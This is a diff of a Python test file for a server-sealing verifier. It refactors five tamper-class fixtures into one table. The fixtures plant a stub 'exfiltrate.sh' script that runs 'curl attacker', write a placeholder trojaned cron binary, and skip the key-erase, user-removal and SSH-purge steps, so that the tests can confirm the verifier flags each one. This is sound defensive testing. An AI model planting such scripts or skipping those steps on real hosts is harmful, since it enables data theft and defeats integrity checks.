@@ -22,7 +22,7 @@ from sealkit.sealing import (
     seal_all,
     seal_single_stage,
 )
-from sealkit.scenarios import drop_step
+from sealkit.scenarios import _without
 from sealkit.services import MillionairesState, millionaires_publish, millionaires_submit
 from sealkit.util import SimClock, make_rng
 from sealkit.verifier import default_policy, verify_seal
@@ -91,65 +91,43 @@ def test_criterion_2_dual_stage_theorem():
     report(2, "dual-stage theorem 100/100 vs single-stage 100/100")
 
 
-def _tamper_fixtures():
-    """The five tamper classes, each returning (verdict, expected subject match)."""
+def _sabotaged_verdict(seed, sabotage):
+    """Build, image, seal through ``sabotage(host, honest_plan)``, then verify
+    against the honest plan's policy."""
+    host = build_server(seed)
+    hi, vi = host.snapshot_image(), host.nested_vm.snapshot_image()
+    honest = default_plan(host.config)
+    bundle = sabotage(host, honest)
+    return verify_seal(hi, vi, bundle, default_policy(honest))
 
-    def added_script(seed):
-        host = build_server(seed)
-        hi, vi = host.snapshot_image(), host.nested_vm.snapshot_image()
+
+def _written_before_seal(path, data):
+    """Sabotage that writes one file on the running host, then seals honestly."""
+    def sabotage(host, plan):
         host.boot()
-        host.write_file("/usr/local/bin/exfiltrate.sh", b"#!/bin/sh\ncurl attacker\n")
-        bundle = seal_all(host)
-        verdict = verify_seal(hi, vi, bundle, default_policy(default_plan(host.config)))
-        return verdict, "/usr/local/bin/exfiltrate.sh"
+        host.write_file(path, data)
+        return seal_all(host, plan)
+    return sabotage
 
-    def modified_binary(seed):
-        host = build_server(seed)
-        hi, vi = host.snapshot_image(), host.nested_vm.snapshot_image()
-        host.boot()
-        host.write_file("/usr/sbin/cron", b"#!ELF trojaned cron binary\n")
-        bundle = seal_all(host)
-        verdict = verify_seal(hi, vi, bundle, default_policy(default_plan(host.config)))
-        return verdict, "/usr/sbin/cron"
 
-    def residual_keyslot(seed):
-        host = build_server(seed)
-        hi, vi = host.snapshot_image(), host.nested_vm.snapshot_image()
-        honest = default_plan(host.config)
-        bundle = seal_all(host, drop_step(honest, "host", "luks_erase"))
-        verdict = verify_seal(hi, vi, bundle, default_policy(honest))
-        return verdict, "luksErase"
-
-    def surviving_user(seed):
-        host = build_server(seed)
-        hi, vi = host.snapshot_image(), host.nested_vm.snapshot_image()
-        honest = default_plan(host.config)
-        bundle = seal_all(host, drop_step(honest, "vm", "remove_user"))
-        verdict = verify_seal(hi, vi, bundle, default_policy(honest))
-        return verdict, "trust"
-
-    def surviving_ssh(seed):
-        host = build_server(seed)
-        hi, vi = host.snapshot_image(), host.nested_vm.snapshot_image()
-        honest = default_plan(host.config)
-        bundle = seal_all(host, drop_step(honest, "vm", "purge_ssh"))
-        verdict = verify_seal(hi, vi, bundle, default_policy(honest))
-        return verdict, "ssh"
-
-    return [
-        ("added-script", added_script),
-        ("modified-binary", modified_binary),
-        ("residual-keyslot", residual_keyslot),
-        ("surviving-user", surviving_user),
-        ("surviving-ssh", surviving_ssh),
-    ]
+# The five tamper classes: (name, sabotage, substring the finding's subject names).
+TAMPER_CLASSES = [
+    ("added-script", _written_before_seal("/usr/local/bin/exfiltrate.sh",
+                                          b"#!/bin/sh\ncurl attacker\n"),
+     "/usr/local/bin/exfiltrate.sh"),
+    ("modified-binary", _written_before_seal("/usr/sbin/cron", b"#!ELF trojaned cron binary\n"),
+     "/usr/sbin/cron"),
+    ("residual-keyslot", _without("host", "luks_erase"), "luksErase"),
+    ("surviving-user", _without("vm", "remove_user"), "trust"),
+    ("surviving-ssh", _without("vm", "purge_ssh"), "ssh"),
+]
 
 
 def test_criterion_3_verifier_soundness_and_completeness():
     """Each of the five tamper classes FAILs with a finding naming the
     artifact; 100 clean seals give 100 PASS verdicts with zero errors."""
-    for index, (name, fixture) in enumerate(_tamper_fixtures()):
-        verdict, subject = fixture(40_000 + index)
+    for index, (name, sabotage, subject) in enumerate(TAMPER_CLASSES):
+        verdict = _sabotaged_verdict(40_000 + index, sabotage)
         assert verdict.status == "FAIL", f"tamper class {name} was not flagged"
         named = [f for f in verdict.errors if subject in f.subject]
         assert named, (
